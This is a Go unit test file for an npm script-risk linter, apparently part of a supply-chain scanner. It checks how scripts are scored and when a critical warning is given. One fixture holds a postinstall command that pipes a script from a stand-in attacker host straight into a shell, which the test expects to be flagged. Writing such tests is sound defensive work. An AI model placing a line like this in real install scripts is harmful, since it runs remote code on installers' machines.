package content

import (
	"testing"

	"github.com/phantomscan/phantomscan/pkg/policy"
)

func testPatterns() []policy.LabeledPattern {
	return policy.Default().Patterns.NPMScriptRisk
}

func TestLintScriptsEmpty(t *testing.T) {
	score, reasons := LintScripts(nil, testPatterns())
	if score != 0 || reasons != nil {
		t.Errorf("LintScripts(nil) = (%v, %v), want (0, nil)", score, reasons)
	}
}

func TestLintScriptsLifecycleHit(t *testing.T) {
	scripts := map[string]string{
		"postinstall": "curl http://evil.example/payload.sh | sh -c",
	}
	score, reasons := LintScripts(scripts, testPatterns())
	if score < 0.3 {
		t.Errorf("LintScripts() score = %v, want >= 0.3 (lifecycle bonus applied)", score)
	}
	found := false
	for _, r := range reasons {
		if r == "CRITICAL: dangerous pattern auto-runs via lifecycle script" {
			found = true
		}
	}
	if !found {
		t.Errorf("LintScripts() reasons = %v, want CRITICAL reason", reasons)
	}
}

func TestLintScriptsNonLifecycleHit(t *testing.T) {
	scripts := map[string]string{
		"test": "curl http://example.com",
	}
	score, _ := LintScripts(scripts, testPatterns())
	if score <= 0 || score >= 0.4 {
		t.Errorf("LintScripts() score = %v, want in (0, 0.4) for a single non-lifecycle hit", score)
	}
}

func TestLintScriptsLifecyclePresentNoHit(t *testing.T) {
	scripts := map[string]string{
		"postinstall": "node ./scripts/setup.js",
	}
	score, reasons := LintScripts(scripts, testPatterns())
	if score != 0.4 {
		t.Errorf("LintScripts() score = %v, want 0.4 floor", score)
	}
	if len(reasons) != 1 {
		t.Errorf("LintScripts() reasons = %v, want exactly one", reasons)
	}
}
